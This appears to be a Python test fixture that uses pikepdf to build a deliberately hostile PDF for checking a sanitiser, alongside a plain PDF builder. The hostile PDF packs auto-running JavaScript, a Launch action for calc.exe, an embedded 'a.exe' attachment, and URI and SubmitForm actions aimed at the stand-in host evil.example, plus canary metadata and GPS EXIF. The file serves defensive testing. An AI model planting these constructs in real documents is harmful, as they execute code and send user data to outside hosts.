"""PDFs that act and hide, each trick under a name: built by hand, so that a test can ask what became of it."""

import io
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream
from PIL import Image

CANARY = "金丝雀-CANARY-31.2304N"
PLAIN = CANARY.encode("utf-16-be"), CANARY.encode(), b"CANARY"


def photo() -> bytes:
    """A JPEG with a place, a camera and a comment in it."""
    exif = Image.Exif()
    exif[0x010F] = "CANARY camera"
    exif[0x8825] = {1: "N", 2: (31.0, 13.0, 49.0), 3: "E", 4: (121.0, 28.0, 25.0), 29: "CANARY"}
    out = io.BytesIO()
    Image.linear_gradient("L").resize((60, 40)).convert("RGB").save(out, "JPEG", exif=exif, comment=b"CANARY comment")
    return out.getvalue()


def javascript(words: str = f"app.alert('{CANARY}')") -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=words)


def _filespec(pdf: pikepdf.Pdf) -> Any:
    inner = Stream(pdf, CANARY.encode())
    inner["/Type"] = Name.EmbeddedFile
    return pdf.make_indirect(Dictionary(Type=Name.Filespec, F="a.exe", UF="a.exe", EF=Dictionary(F=inner)))


def _annotation(kind: str, **more: Any) -> Dictionary:
    return Dictionary(Type=Name.Annot, Subtype=Name(f"/{kind}"), Rect=Array([0, 0, 100, 50]), **more)


def hostile_pdf() -> bytes:
    """One page, with every trick this test knows."""
    pdf = pikepdf.new()
    page = pdf.add_blank_page(page_size=(200, 200)).obj
    page["/Contents"] = Stream(pdf, b"BT /F1 12 Tf 20 100 Td (visible) Tj ET q 50 0 0 50 0 0 cm /I Do Q")
    image = Stream(pdf, photo(), Type=Name.XObject, Subtype=Name.Image, Width=60, Height=40)
    for key, value in (("/ColorSpace", Name.DeviceRGB), ("/BitsPerComponent", 8), ("/Filter", Name.DCTDecode)):
        image[key] = value
    image["/Metadata"] = Stream(pdf, CANARY.encode())
    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    page["/Resources"] = Dictionary(Font=Dictionary(F1=font), XObject=Dictionary(I=image))
    page["/AA"] = Dictionary(O=javascript(), C=Dictionary(S=Name.Launch, F="calc.exe"))
    chain = Dictionary(S=Name.GoTo, D=Array([page, Name.Fit]), Next=Array([javascript(), javascript()]))
    uri = Dictionary(S=Name.URI, URI=f"https://evil.example/{'CANARY'}")
    submit = Dictionary(S=Name.SubmitForm, F="https://evil.example/CANARY")
    press = pdf.make_indirect(_annotation("Widget", FT=Name.Btn, T="p", A=submit, AA=Dictionary(K=javascript())))
    script = pdf.make_indirect(javascript())
    page["/Annots"] = Array(
        [
            _annotation("Link", A=uri),
            _annotation("Link", A=chain),
            _annotation("Link", A=script, PA=Dictionary(S=Name.URI, URI="https://evil.example/CANARY")),
            _annotation("FileAttachment", FS=_filespec(pdf)),
            _annotation("RichMedia", RichMediaContent=Dictionary(X=CANARY)),
            _annotation("Screen", A=Dictionary(S=Name.Rendition, JS=CANARY)),
            press,
        ]
    )
    page["/PieceInfo"] = Dictionary(App=Dictionary(Private=CANARY))
    root = pdf.Root
    root["/OpenAction"] = javascript()
    root["/AA"] = Dictionary(WC=javascript())
    root["/URI"] = Dictionary(Base="https://evil.example/CANARY")
    root["/AF"] = Array([_filespec(pdf)])
    root["/Names"] = Dictionary(
        JavaScript=Dictionary(Names=Array(["a", javascript()])),
        EmbeddedFiles=Dictionary(Names=Array(["a.exe", _filespec(pdf)])),
    )
    root["/Metadata"] = Stream(pdf, f"<x:xmpmeta>{CANARY}</x:xmpmeta>".encode())
    fields = Array([press, Dictionary(T="hidden", FT=Name.Tx, AA=Dictionary(C=javascript()), Kids=Array([]))])
    root["/AcroForm"] = Dictionary(Fields=fields, XFA=Stream(pdf, CANARY.encode()), CO=Array([]))
    bookmark = pdf.make_indirect(Dictionary(Title="CANARY", A=javascript()))
    root["/Outlines"] = pdf.make_indirect(Dictionary(First=bookmark, Last=bookmark, Count=1))
    pdf.docinfo["/Author"] = CANARY
    out = io.BytesIO()
    pdf.save(out, compress_streams=False, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return out.getvalue()


def plain_pdf(pages: int = 1) -> bytes:
    """An honest PDF of so many pages."""
    pdf = pikepdf.new()
    for _ in range(pages):
        pdf.add_blank_page(page_size=(200, 200))
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()
